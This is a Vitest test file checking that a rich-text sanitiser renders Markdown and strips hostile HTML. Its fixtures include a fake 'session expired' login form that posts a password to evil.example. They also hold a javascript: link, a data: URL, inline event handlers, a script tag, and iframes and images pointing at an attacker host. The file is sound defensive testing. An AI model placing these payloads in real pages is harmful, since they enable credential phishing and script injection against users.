import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitizeRichText } from './sanitize';

/** The rendered HTML as a document, to ask what survived. */
function parse(html: string) {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
}

describe('rich text sanitiser', () => {
  it('renders Markdown: emphasis, lists, line breaks, code, quotes and tables', () => {
    const html = renderMarkdown(
      '**Grassetto** e _corsivo_\nsotto\n\n- uno\n- due\n\n> citazione\n\n`x`\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    expect(html).toContain('<strong>Grassetto</strong>');
    expect(html).toContain('<em>corsivo</em><br>');
    expect(html).toContain('<li>uno</li>');
    const doc = parse(html);
    expect(doc.querySelector('blockquote')?.textContent).toContain('citazione');
    expect(doc.querySelector('code')?.textContent).toBe('x');
    expect(doc.querySelectorAll('td')).toHaveLength(2);
  });

  it('drops style sheets, style attributes and the fake login form with its password field', () => {
    const attack = [
      '<style>body{display:none}</style>',
      '<p style="position:fixed;inset:0">Sessione scaduta</p>',
      '<form action="https://evil.example/steal"><input type="password" name="p"><button>Accedi</button></form>',
      '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
      '<svg><a href="https://evil.example">svg</a></svg><img src="https://evil.example/t.png">',
      '<select><option>a</option></select><textarea>t</textarea><link rel="stylesheet" href="x">',
    ].join('');
    const doc = parse(sanitizeRichText(attack));
    for (const tag of [
      'style',
      'form',
      'input',
      'button',
      'iframe',
      'object',
      'embed',
      'svg',
      'img',
      'select',
      'textarea',
      'link',
    ]) {
      expect(doc.querySelector(tag), tag).toBeNull();
    }
    expect(doc.querySelector('[style]')).toBeNull();
    expect(doc.textContent).toContain('Sessione scaduta');
  });

  it('drops event handlers and script, and links other than http(s) and mailto', () => {
    const doc = parse(
      renderMarkdown(
        '<a href="javascript:alert(1)">js</a> <a href="data:text/html,x">data</a> <a href="/app/x">rel</a> ' +
          '<p onclick="alert(1)" onmouseover="x()">p</p><script>alert(1)</script>[ok](https://example.com) [m](mailto:a@b.it)',
      ),
    );
    const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter(Boolean)).toEqual(['https://example.com', 'mailto:a@b.it']);
    expect(doc.querySelector('[onclick], [onmouseover], script')).toBeNull();
  });

  it('opens links in a new tab with no opener, no referrer and no follow', () => {
    const link = parse(renderMarkdown('[sito](https://example.com)')).querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });
});
